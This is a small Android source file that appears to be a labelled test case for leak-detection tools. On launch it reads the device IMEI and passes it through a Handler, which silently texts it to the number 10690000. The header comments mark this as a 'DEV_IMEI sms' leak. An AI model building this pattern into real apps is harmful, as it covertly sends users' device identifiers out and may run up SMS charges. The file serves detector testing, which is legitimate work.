// about       A handler sends on messages of a kind that is posted.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.os.Handler;
import android.os.Message;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private static final int REFRESH = 1;
  private static final int REPORT = 2;

  private final Handler handler = new Handler() {
    @Override
    public void handleMessage(Message message) {
      if (message.what == REPORT) {
        String id = (String) message.obj;
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
      } else {
        setTitle("Refreshed");
      }
    }
  };

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    // The kind of message.
    handler.obtainMessage(REPORT, phone.getDeviceId()).sendToTarget();
  }
}
